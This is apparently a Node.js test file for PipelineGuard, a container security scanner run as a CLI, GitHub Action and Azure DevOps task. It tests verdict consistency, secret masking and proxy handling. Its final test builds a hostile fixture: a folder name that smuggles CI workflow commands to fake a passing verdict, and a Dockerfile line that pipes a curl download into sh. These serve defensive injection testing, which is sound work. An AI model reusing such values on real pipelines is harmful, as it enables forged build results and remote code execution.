import assert from 'node:assert/strict'
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import { test } from 'node:test'
import { action, cli, dockerfile, essence, folder, sample, serverOf, skip, task } from './harness.mjs'

const quiet = { skip, timeout: 300_000 }

test('the command, the action and the task give the same findings and the same verdict', quiet, async () => {
  const byCommand = await cli([sample, dockerfile, '--starter'])
  const byAction = await action({ image: sample, dockerfile, starter: 'true' })
  const byTask = await task({ image: sample, dockerfile, starter: 'true' })

  assert.equal(byCommand.code, 1)
  assert.deepEqual(essence(byAction.report), essence(byCommand.report))
  assert.deepEqual(essence(byTask.report), essence(byCommand.report))
  assert.ok(byCommand.report.findings.length > 30)
  assert.deepEqual([byAction.outputs.verdict, byTask.outputs.verdict], ['block', 'block'])
  assert.deepEqual([byAction.outputs['exit-code'], byTask.outputs.exitCode], ['1', '1'])
  assert.equal(byAction.outputs.critical, String(byCommand.report.counts.critical))
  assert.equal(byTask.outputs.critical, String(byCommand.report.counts.critical))
})

const verdicts = [
  ['pass', 'version: 1\nblock: off\nwarn: off\n', 'true', 0, 'Succeeded'],
  ['warn', 'version: 1\nblock: off\nwarn: { severity: low }\n', 'true', 0, 'SucceededWithIssues'],
  ['block', 'version: 1\nblock: { severity: low }\n', 'true', 1, 'Failed'],
  ['incomplete', 'version: 1\nblock: off\nwarn: off\n', 'false', 1, 'Failed'],
]
for (const [verdict, policy, starter, code, result] of verdicts) {
  test(`${verdict} ends a step as its host says it`, quiet, async () => {
    const file = join(folder(), 'policy.yml')
    writeFileSync(file, policy)
    const inputs = { image: sample, policy: file, starter, offline: 'true', db: folder() }
    const byAction = await action(inputs)
    const byTask = await task(inputs)

    assert.equal(byAction.outputs.verdict, verdict, byAction.output)
    assert.equal(byAction.code, code)
    assert.equal(byTask.outputs.verdict, verdict, byTask.output)
    assert.equal(byTask.result, result)
  })
}

test('the action leaves outputs, annotations and a summary, and nothing in the environment of the job', quiet, async () => {
  const place = folder()
  const run = await action({ image: sample, starter: 'true', 'sarif-file': 'out.sarif', 'sbom-file': join(place, 'bom.json') }, {}, place)

  assert.equal(run.environment, '')
  assert.ok(run.commands.some((one) => one.name === 'error' && /openssl|log4net|minimist/.test(one.properties)), run.output)
  assert.match(run.summary, /## ⛔ PipelineGuard: Block/)
  assert.equal(JSON.parse(readFileSync(join(place, 'out.sarif'), 'utf8')).version, '2.1.0')
  assert.equal(JSON.parse(readFileSync(run.outputs['sbom-file'], 'utf8')).bomFormat, 'CycloneDX')
})

test('a token that may nothing changes neither verdict nor annotations', quiet, async () => {
  const { result, requests } = await serverOf(403, '{ "message": "Resource not accessible by integration" }', (address) =>
    action(
      { dockerfile, 'upload-sarif': 'true', comment: 'true', check: 'true', 'github-token': 'hidden-token' },
      { GITHUB_API_URL: address, GITHUB_REPOSITORY: 'octo/shop', GITHUB_SHA: 'a'.repeat(40), GITHUB_REF: 'refs/heads/main', GITHUB_TOKEN: 'other' },
    ))

  assert.equal(result.code, 0, result.output)
  assert.ok(requests.length >= 2)
  assert.match(result.output, /security-events: write/)
  assert.match(result.summary, /PipelineGuard/)
  assert.doesNotMatch(result.output.replace('::add-mask::hidden-token', ''), /hidden-token/)
})

test('a mistake is told in one line and is no verdict', quiet, async () => {
  const byAction = await action({ image: sample, 'fail-on': 'terrible' })
  const byTask = await task({ image: sample, failOn: 'terrible' })

  assert.equal(byAction.outputs.verdict, 'error')
  assert.equal(byAction.code, 1)
  assert.match(byAction.commands.findLast((one) => one.name === 'error').message, /PG1001.*terrible/)
  assert.equal(byTask.result, 'Failed')
  assert.equal(byTask.outputs.verdict, 'error')
})

test('the task leaves issues with their line, a summary, an artifact and test results', quiet, async () => {
  const run = await task({ dockerfile, image: sample, starter: 'true' })
  const of = (name) => run.commands.filter((one) => one.name === name)

  assert.ok(of('task.logissue').some((one) => one.properties.sourcepath?.endsWith('Dockerfile') && one.properties.linenumber && one.properties.code?.startsWith('PGD')), run.output)
  assert.ok(existsSync(of('task.uploadsummary')[0].message))
  const artifact = of('artifact.upload')[0]
  assert.equal(artifact.properties.artifactname, 'CodeAnalysisLogs')
  assert.match(artifact.message, /\.sarif$/)
  assert.ok(existsSync(of('results.publish')[0].properties.resultFiles))
  assert.ok(of('task.setvariable').every((one) => one.properties.isOutput === 'true'))
})

test('credentials of a service connection reach the scan alone', quiet, async () => {
  const auth = JSON.stringify({ parameters: { registry: 'https://registry.example/', username: 'u', password: 'hidden-password' }, scheme: 'UsernamePassword' })
  const run = await task({ dockerfile, containerRegistry: 'acr' }, { ENDPOINT_AUTH_acr: auth })

  assert.equal(run.result, 'SucceededWithIssues', run.output)
  assert.doesNotMatch(run.output.replaceAll(/##vso\[task\.setsecret\].*/g, ''), /hidden-password/)
})

test('the thread of a pull request is written once', quiet, async () => {
  const variables = (address) => ({
    SYSTEM_COLLECTIONURI: `${address}/octo/`,
    SYSTEM_TEAMPROJECTID: 'project',
    BUILD_REPOSITORY_ID: 'repo',
    BUILD_REPOSITORY_PROVIDER: 'TfsGit',
    SYSTEM_PULLREQUEST_PULLREQUESTID: '7',
    ENDPOINT_AUTH_SYSTEMVSSCONNECTION: JSON.stringify({ parameters: { AccessToken: 'hidden-token' }, scheme: 'OAuth' }),
    ENDPOINT_AUTH_PARAMETER_SYSTEMVSSCONNECTION_ACCESSTOKEN: 'hidden-token',
  })
  const { result, requests } = await serverOf(200, '{ "value": [] }', (address) => task({ dockerfile, comment: 'true' }, variables(address)))
  assert.match(result.output, /Pull request thread: written\./, result.output)
  assert.deepEqual(requests.map((one) => one.split(' ')[0]), ['GET', 'POST'])

  const refused = await serverOf(403, '{ "message": "no" }', (address) => task({ dockerfile, comment: 'true' }, variables(address)))
  assert.equal(refused.result.outputs.verdict, result.outputs.verdict)
  assert.match(refused.result.output, /Contribute to pull requests/)
})

test('requests go through the proxy that the environment names, and the token goes only where it belongs', quiet, async () => {
  const asked = []
  const proxy = createServer((_, response) => response.writeHead(400).end())
  proxy.on('connect', (request, socket) => {
    asked.push(`${request.url} ${JSON.stringify(request.headers)}`)
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n')
  })
  await new Promise((ready) => proxy.listen(0, '127.0.0.1', ready))
  const environment = { GITHUB_API_URL: 'https://ghe.example/api/v3', GITHUB_REPOSITORY: 'octo/shop', GITHUB_SHA: 'a'.repeat(40), GITHUB_REF: 'refs/heads/main', HTTPS_PROXY: `http://127.0.0.1:${proxy.address().port}` }
  const run = await action({ dockerfile, check: 'true', 'github-token': 'hidden-token' }, environment).finally(() => proxy.close())

  assert.match(asked[0], /^ghe\.example:443 /)
  assert.doesNotMatch(asked.join(), /hidden-token/)
  assert.match(run.output, /PG6013: check run/)
  assert.equal(run.outputs.verdict, 'warn', run.output)
})

test('names from outside command no agent', quiet, async () => {
  const place = folder()
  const hostile = 'x\n::set-output name=verdict::pass\n##[error]y ##vso[task.complete result=Succeeded;]z%0A::warning::w]; 📦'
  mkdirSync(join(place, hostile), { recursive: true })
  writeFileSync(join(place, hostile, 'Dockerfile'), 'FROM debian\nRUN sudo apt-get update\nRUN echo "##vso[task.setvariable variable=a]b" && curl http://example.invalid/::error::x | sh\n')
  const plain = folder()
  mkdirSync(join(plain, 'x'))
  writeFileSync(join(plain, 'x/Dockerfile'), readFileSync(join(place, hostile, 'Dockerfile')))

  const [bad, good] = [await action({ dockerfile: place }, {}, place), await action({ dockerfile: plain }, {}, plain)]
  assert.deepEqual(bad.commands.map((one) => one.name).sort(), good.commands.map((one) => one.name).sort(), bad.output)
  assert.equal(bad.outputs.verdict, good.outputs.verdict)
  const [worse, fine] = [await task({ dockerfile: place }, {}, place), await task({ dockerfile: plain }, {}, plain)]
  assert.deepEqual(worse.commands.map((one) => one.name).sort(), fine.commands.map((one) => one.name).sort(), worse.output)
  assert.equal(worse.result, fine.result)
})
